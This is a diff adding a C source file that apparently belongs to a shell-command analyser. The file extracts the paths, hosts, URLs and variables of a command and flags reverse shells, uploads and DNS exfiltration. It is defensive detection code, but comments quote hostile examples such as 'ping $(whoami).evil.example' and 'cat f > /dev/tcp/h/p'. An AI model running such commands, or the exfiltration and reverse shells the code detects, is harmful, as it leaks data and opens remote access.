@@ -1,0 +1,475 @@
+/*
+ * Facts of one interpreted command: which words are files it reads,
+ * writes, deletes or runs, its subcommand, the URLs and hosts it talks to,
+ * the variables it is given, and the network idioms (reverse shells,
+ * uploads, listeners, DNS exfiltration). The words are walked once against
+ * the command's row in knowledge.c; only what a row cannot say has code
+ * here (tar's mode, find's expression, remote paths of scp, curl's @file).
+ * Data is never a fact: a commit message, a grep pattern or an echo's
+ * words are not paths, hosts or commands.
+ */
+#include <string.h>
+
+#include "shell/carriers.h"
+#include "shell/facts.h"
+#include "util/host.h"
+
+void sh_strs_add(sh_ctx *c, sh_strs *l, pe_str s, int copy)
+{
+    if (!s.len || sh_grow(c, (void **)&l->items, &l->cap, l->n + 1, sizeof(*l->items)))
+        return;
+    if (copy && !(s.s = sh_strndup(c, s.s, s.len)))
+        return;
+    l->items[l->n++] = s;
+}
+
+sh_where sh_where_of(sh_ctx *c, unsigned scope)
+{
+    sh_where w;
+    w.cwd = sh_cwd(c, scope, &w.known);
+    return w;
+}
+
+sh_where sh_where_enter(sh_ctx *c, unsigned scope, sh_where w, pe_str dir, unsigned flags)
+{
+    pe_str d;
+    int known = sh_expand(c, scope, dir, flags, &d);
+    sh_where r = {d, known && (w.known || (d.len && d.s[0] == '/'))};
+    if (d.len && d.s[0] != '/' && w.cwd.len) {
+        char *j = sh_alloc(c, w.cwd.len + d.len + 2);
+        if (!j)
+            return w;
+        memcpy(j, w.cwd.s, w.cwd.len);
+        j[w.cwd.len] = '/';
+        memcpy(j + w.cwd.len + 1, d.s, d.len);
+        j[w.cwd.len + 1 + d.len] = '\0';
+        r.cwd.s = j;
+        r.cwd.len = w.cwd.len + 1 + d.len;
+    }
+    return r;
+}
+
+void sh_path_in(sh_ctx *c, unsigned scope, sh_where w, pe_str word, unsigned wflags, unsigned role)
+{
+    if (!word.len || !role)
+        return;
+    pe_str p;
+    int known = sh_expand(c, scope, word, wflags, &p);
+    if (sh_grow(c, (void **)&c->paths, &c->path_cap, c->npaths + 1, sizeof(*c->paths)))
+        return;
+    pe_shell_path *e = &c->paths[c->npaths++];
+    e->path = p;
+    e->cwd = w.cwd;
+    e->role = role;
+    e->flags = (known ? 0 : PE_SHELL_P_UNKNOWN) |
+               ((wflags & PE_SHELL_W_GLOB) || memchr(p.s, '*', p.len) ? PE_SHELL_P_GLOB : 0);
+    if (!w.known && !(p.len && (p.s[0] == '/' || p.s[0] == '~')))
+        e->flags |= PE_SHELL_P_UNKNOWN;
+    if (c->remote)
+        e->flags |= PE_SHELL_P_REMOTE; /* a path on another host or in a container */
+}
+
+void sh_path_add(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, unsigned role)
+{
+    sh_path_in(c, scope, sh_where_of(c, scope), word, wflags, role);
+}
+
+/* ---- hosts and URLs ------------------------------------------------------ */
+
+static void add_host(sh_ctx *c, const pe_host *h)
+{
+    if (h->kind == PE_HOST_NONE)
+        return;
+    sh_strs_add(c, &c->hosts, h->text, 0);
+    if (h->v4.len && !(h->v4.len == h->text.len && !memcmp(h->v4.s, h->text.s, h->v4.len)))
+        sh_strs_add(c, &c->hosts, h->v4, 0);
+}
+
+/* A name made by a substitution is a lookup that carries data out (DNS
+ * exfiltration: ping $(whoami).evil.example). */
+int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int style)
+{
+    pe_str t;
+    sh_expand(c, scope, word, wflags, &t);
+    pe_url u;
+    if (pe_url_parse(&u, t.s, t.len, (pe_url_style)style, c->arena) < 0) {
+        sh_nomem(c);
+        return 0;
+    }
+    if (u.host.kind == PE_HOST_NONE)
+        return 0;
+    const pe_str *h = &u.host.text;
+    if ((wflags & PE_SHELL_W_CMDSUB) && (memchr(h->s, '$', h->len) || memchr(h->s, '`', h->len)))
+        c->flags |= PE_SHELL_DNS_EXFIL;
+    sh_strs_add(c, &c->urls, t, 0);
+    add_host(c, &u.host);
+    return (int)u.host.kind;
+}
+
+/* Whether a word looks like a URL (scheme://). */
+static int is_url(pe_str w)
+{
+    size_t i = 0;
+    while (i < w.len && ((w.s[i] >= 'a' && w.s[i] <= 'z') || (w.s[i] >= 'A' && w.s[i] <= 'Z') ||
+                         (i && ((w.s[i] >= '0' && w.s[i] <= '9') || strchr("+.-", w.s[i])))))
+        i++;
+    return i > 1 && i + 2 < w.len && w.s[i] == ':' && w.s[i + 1] == '/' && w.s[i + 2] == '/';
+}
+
+/* ---- redirections -------------------------------------------------------- */
+
+static void redir_facts(sh_ctx *c, const sh_cmd *sc)
+{
+    const pe_shell_cmd *k = &sc->pub;
+    for (size_t j = 0; j < k->nredirs; j++) {
+        const pe_shell_redir *r = &k->redirs[j];
+        if (!(r->flags & PE_SHELL_R_FILE))
+            continue;
+        pe_dev_net dn;
+        pe_str t;
+        sh_expand(c, sc->scope, r->target, r->flags, &t);
+        int net = pe_dev_net_parse(&dn, t.s, t.len, c->arena);
+        if (net < 0) {
+            sh_nomem(c);
+            return;
+        }
+        if (net == 1) { /* bash's /dev/tcp/HOST/PORT */
+            add_host(c, &dn.host);
+            if (k->flags & PE_SHELL_C_INTERPRETER)
+                c->flags |= PE_SHELL_REVERSE_SHELL;
+            else if ((r->flags & PE_SHELL_R_WRITE) && r->op.s[0] != '<' &&
+                     (r->fd == -1 || r->fd == 1))
+                c->flags |= PE_SHELL_UPLOAD; /* cat f > /dev/tcp/h/p */
+            continue;
+        }
+        unsigned role = r->flags & PE_SHELL_R_WRITE ? PE_SHELL_P_WRITE : 0;
+        if (r->op.s[0] == '<')
+            role |= PE_SHELL_P_READ;
+        sh_path_add(c, sc->scope, r->target, r->flags, role);
+    }
+}
+
+/* ---- walking the words --------------------------------------------------- */
+
+static unsigned role_bits(unsigned or_role)
+{
+    switch (or_role) {
+    case OR_READ:
+        return PE_SHELL_P_READ;
+    case OR_WRITE:
+        return PE_SHELL_P_WRITE;
+    case OR_DELETE:
+        return PE_SHELL_P_DELETE;
+    case OR_UPLOAD:
+        return PE_SHELL_P_UPLOAD | PE_SHELL_P_READ;
+    case OR_EXEC:
+        return PE_SHELL_P_EXEC | PE_SHELL_P_READ;
+    default:
+        return 0;
+    }
+}
+
+/* An option's value (word vi of k) with role r. */
+static void option_value(sh_ctx *c, const sh_cmd *sc, sh_walk *wk, unsigned r, pe_str v,
+                         unsigned vf)
+{
+    switch (r) {
+    case OR_OPERAND_ONE:
+        wk->skip_given = 1;
+        break;
+    case OR_CWD:
+        wk->w = sh_where_enter(c, sc->scope, wk->w, v, vf);
+        break;
+    case OR_URL:
+        sh_net_word(c, sc->scope, v, vf, PE_URL_WEB);
+        break;
+    case OR_UPLOAD_AT: { /* @file, name=@file, name=<file: the file is sent */
+        const char *at = memchr(v.s, '@', v.len);
+        if (!at && v.len && memchr(v.s, '<', v.len) && memchr(v.s, '=', v.len))
+            at = memchr(v.s, '<', v.len);
+        c->flags |= PE_SHELL_UPLOAD;
+        if (at && (at == v.s || memchr(v.s, '=', (size_t)(at - v.s)))) {
+            pe_str f = {at + 1, v.len - (size_t)(at - v.s) - 1};
+            size_t semi = 0;
+            while (semi < f.len && f.s[semi] != ';')
+                semi++; /* -F file=@x;type=text/plain */
+            f.len = semi;
+            if (f.len && !(f.len == 1 && f.s[0] == '-'))
+                sh_path_in(c, sc->scope, wk->w, f, vf, PE_SHELL_P_UPLOAD | PE_SHELL_P_READ);
+        }
+        break;
+    }
+    case OR_CODE:
+        sh_carry_code(c, sc, v, vf);
+        break;
+    case OR_CONFIG:
+        sh_carry_setting(c, sc, v, vf);
+        break;
+    default:
+        sh_path_in(c, sc->scope, wk->w, v, vf, role_bits(r));
+    }
+}
+
+static void flag_role(sh_walk *wk, unsigned r)
+{
+    if (r == OR_EDIT_FLAG)
+        wk->edit = 1;
+    else if (r == OR_LIST_FLAG)
+        wk->list = 1;
+    else if (r == OR_DELETE_FLAG)
+        wk->delete_flag = 1;
+}
+
+static int takes_value(unsigned r)
+{
+    return r && r != OR_EDIT_FLAG && r != OR_LIST_FLAG && r != OR_DELETE_FLAG;
+}
+
+/* A --long option at argv[j]; the number of extra words it takes. */
+static size_t long_option(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, size_t j)
+{
+    const pe_shell_cmd *p = &sc->pub;
+    pe_str a = p->argv[j];
+    const char *eq = memchr(a.s, '=', a.len);
+    size_t nlen = eq ? (size_t)(eq - a.s) : a.len;
+    unsigned r = sh_know_optrole(k, a.s, nlen);
+    int takes = takes_value(r) || sh_know_long_arg(k, a.s + 2, nlen - 2);
+    flag_role(wk, r);
+    if (!takes)
+        return 0;
+    if (eq) {
+        pe_str v = {eq + 1, a.len - nlen - 1};
+        option_value(c, sc, wk, r, v, p->argf[j]);
+        return 0;
+    }
+    if (j + 1 >= p->argc)
+        return 0;
+    option_value(c, sc, wk, r, p->argv[j + 1], p->argf[j + 1]);
+    return 1;
+}
+
+/* A -cluster at argv[j]; the number of extra words it takes. Options of a
+ * single dash and several letters (openssl's -in, find's -delete) are
+ * looked up whole first. */
+static size_t short_option(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, size_t j)
+{
+    const pe_shell_cmd *p = &sc->pub;
+    pe_str a = p->argv[j];
+    unsigned whole = a.len > 2 ? sh_know_optrole(k, a.s, a.len) : 0;
+    if (whole) {
+        flag_role(wk, whole);
+        if (!takes_value(whole) || j + 1 >= p->argc)
+            return 0;
+        option_value(c, sc, wk, whole, p->argv[j + 1], p->argf[j + 1]);
+        return 1;
+    }
+    for (size_t i = 1; i < a.len; i++) {
+        char opt[3] = {'-', a.s[i], 0};
+        unsigned r = sh_know_optrole(k, opt, 2);
+        flag_role(wk, r);
+        if (!takes_value(r) && !sh_know_short_arg(k, a.s[i]))
+            continue;
+        if (i + 1 < a.len) { /* the value attached: -ofile */
+            pe_str v = {a.s + i + 1, a.len - i - 1};
+            if (takes_value(r))
+                option_value(c, sc, wk, r, v, p->argf[j]);
+            return 0;
+        }
+        if (j + 1 >= p->argc)
+            return 0;
+        if (takes_value(r))
+            option_value(c, sc, wk, r, p->argv[j + 1], p->argf[j + 1]);
+        return 1;
+    }
+    return 0;
+}
+
+/* Walks argv[from..] of a command against its row. */
+static void walk_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, size_t from)
+{
+    const pe_shell_cmd *p = &sc->pub;
+    int opts_done = 0;
+    for (size_t j = from; j < p->argc; j++) {
+        pe_str a = p->argv[j];
+        if (!opts_done && sh_eq(a, "--")) {
+            opts_done = 1;
+            continue;
+        }
+        if (!opts_done && a.len > 1 && a.s[0] == '-') {
+            j += a.s[1] == '-' ? long_option(c, sc, k, wk, j) : short_option(c, sc, k, wk, j);
+            continue;
+        }
+        const char *eq = memchr(a.s, '=', a.len);
+        unsigned r = eq ? sh_know_optrole(k, a.s, (size_t)(eq - a.s) + 1) : 0;
+        if (r) { /* dd's if=FILE */
+            pe_str v = {eq + 1, a.len - (size_t)(eq - a.s) - 1};
+            option_value(c, sc, wk, r, v, p->argf[j]);
+            continue;
+        }
+        if (wk->nops < sizeof(wk->ops) / sizeof(wk->ops[0]))
+            wk->ops[wk->nops++] = j;
+        if (k->flags & K_PERMUTE)
+            opts_done = 1;
+    }
+}
+
+void sh_operand_roles(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, unsigned op)
+{
+    size_t first = k->skip && !wk->skip_given ? k->skip : 0;
+    if (first > wk->nops)
+        first = wk->nops;
+    size_t n = wk->nops;
+    if (wk->edit && op == OP_READ)
+        op = OP_EDIT;
+    for (size_t i = first; i < n; i++) {
+        size_t j = wk->ops[i];
+        int last = i + 1 == n && n - first > 1;
+        unsigned role = 0;
+        switch (op) {
+        case OP_READ:
+            role = PE_SHELL_P_READ;
+            break;
+        case OP_WRITE:
+            role = PE_SHELL_P_WRITE;
+            break;
+        case OP_DELETE:
+            role = PE_SHELL_P_DELETE;
+            break;
+        case OP_EDIT:
+            role = PE_SHELL_P_READ | PE_SHELL_P_WRITE;
+            break;
+        case OP_LIST:
+            role = PE_SHELL_P_LIST;
+            break;
+        case OP_EXEC:
+            role = PE_SHELL_P_EXEC | PE_SHELL_P_READ;
+            break;
+        case OP_COPY:
+            role = last ? PE_SHELL_P_WRITE : PE_SHELL_P_READ;
+            break;
+        case OP_MOVE:
+            role = last ? PE_SHELL_P_WRITE : PE_SHELL_P_READ | PE_SHELL_P_DELETE;
+            break;
+        case OP_FIRST:
+            role = i == first ? PE_SHELL_P_WRITE : PE_SHELL_P_READ;
+            break;
+        case OP_IO:
+            role = i == first ? PE_SHELL_P_READ : i == first + 1 ? PE_SHELL_P_WRITE : 0;
+            break;
+        case OP_URL:
+            continue; /* the special handlers know the style */
+        default:
+            break;
+        }
+        if (wk->list)
+            role = PE_SHELL_P_LIST;
+        if (wk->delete_flag)
+            role |= PE_SHELL_P_DELETE;
+        sh_path_in(c, sc->scope, wk->w, sc->pub.argv[j], sc->pub.argf[j], role);
+    }
+}
+
+/* ---- subcommands ----------------------------------------------------------- */
+
+static int in_words(const char *const *l, pe_str w)
+{
+    for (; l && *l; l++)
+        if (sh_eq(w, *l))
+            return 1;
+    return 0;
+}
+
+/* git reset, docker compose up: the path of words after the global
+ * options; recorded as "git reset" and, for a group, "git stash drop". */
+static void subcommand(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
+{
+    pe_shell_cmd *p = &c->cmds[idx].pub;
+    if (!wk->nops)
+        return;
+    size_t j = wk->ops[0], n = 1;
+    pe_str a = p->argv[j];
+    if (!a.len || (p->argf[j] & PE_SHELL_W_EXPANDS))
+        return;
+    /* later words only while they can be part of the path */
+    while (n < k->sub->depth && n < wk->nops && wk->ops[n] == j + n &&
+           (k->sub->depth > 2 || in_words(k->sub->groups, p->argv[j])) &&
+           !(p->argf[j + n] & PE_SHELL_W_EXPANDS))
+        n++;
+    p->subidx = j;
+    p->nsub = n;
+    size_t len = p->base.len;
+    for (size_t i = 0; i < n; i++)
+        len += 1 + p->argv[j + i].len;
+    char *d = sh_alloc(c, len + 1);
+    if (!d)
+        return;
+    size_t o = 0;
+    memcpy(d, p->base.s, p->base.len);
+    o = p->base.len;
+    for (size_t i = 0; i < n; i++) {
+        d[o++] = ' ';
+        memcpy(d + o, p->argv[j + i].s, p->argv[j + i].len);
+        o += p->argv[j + i].len;
+        pe_str s = {d, o};
+        sh_strs_add(c, &c->subs, s, 1);
+    }
+}
+
+/* Variables the command is given (NAME=value before it, env NAME=value,
+ * export NAME=value): recorded, and those that carry code or a file to
+ * run are followed (carriers.c). */
+static void env_facts(sh_ctx *c, const sh_cmd *sc)
+{
+    const pe_shell_cmd *k = &sc->pub;
+    size_t first = k->argc ? (size_t)(k->argv - k->words) : k->nwords;
+    int exports = k->argc && (sh_eq(k->base, "export") || sh_eq(k->base, "declare") ||
+                              sh_eq(k->base, "typeset"));
+    for (size_t j = 0; j < k->nwords; j++) {
+        pe_str w = k->words[j];
+        unsigned f = k->wordf[j];
+        int given = k->argc && j < first && (f & PE_SHELL_W_ASSIGN);
+        int exported = exports && j > first && memchr(w.s, '=', w.len) && w.s[0] != '-';
+        if (!given && !exported)
+            continue;
+        pe_str t;
+        sh_expand(c, sc->scope, w, f, &t);
+        sh_strs_add(c, &c->envs, t, 0);
+        sh_carry_variable(c, sc, t, f);
+    }
+}
+
+void sh_facts(sh_ctx *c, size_t idx)
+{
+    redir_facts(c, &c->cmds[idx]);
+    env_facts(c, &c->cmds[idx]);
+    const sh_cmd *sc = &c->cmds[idx];
+    if (sc->pub.argc == 0 || (sc->pub.flags & PE_SHELL_C_RESOLVED) || c->stop)
+        return;
+    const sh_know *k =
+        (sc->pub.argf[0] & PE_SHELL_W_UNKNOWN_NAME) ? NULL : sh_know_find(sc->pub.base);
+    sh_walk wk;
+    memset(&wk, 0, sizeof(wk));
+    wk.w = sh_where_of(c, sc->scope);
+    if (k) {
+        walk_words(c, sc, k, &wk, 1);
+        if (k->flags & K_SUBS)
+            subcommand(c, idx, k, &wk);
+        sc = &c->cmds[idx];
+        if (!(k->flags & K_SPECIAL) || !sh_special(c, idx, k, &wk))
+            sh_operand_roles(c, &c->cmds[idx], k, &wk, k->operands);
+        sc = &c->cmds[idx];
+        /* a name (or @server) to look up or connect to: the first operand */
+        if (k->operands == OP_URL && !(k->flags & K_SPECIAL) && wk.nops)
+            sh_net_word(c, sc->scope, sc->pub.argv[wk.ops[0]], sc->pub.argf[wk.ops[0]], PE_URL_SSH);
+    } else {
+        for (size_t j = 1; j < sc->pub.argc; j++)
+            wk.ops[wk.nops < 64 ? wk.nops++ : 63] = j;
+    }
+    sc = &c->cmds[idx];
+    if (!k || !(k->flags & K_SPECIAL)) /* URLs among any command's operands */
+        for (size_t i = 0; i < wk.nops; i++)
+            if (is_url(sc->pub.argv[wk.ops[i]]))
+                sh_net_word(c, sc->scope, sc->pub.argv[wk.ops[i]], sc->pub.argf[wk.ops[i]],
+                            PE_URL_WEB);
+    sh_carry_command(c, idx, k, &wk);
+}
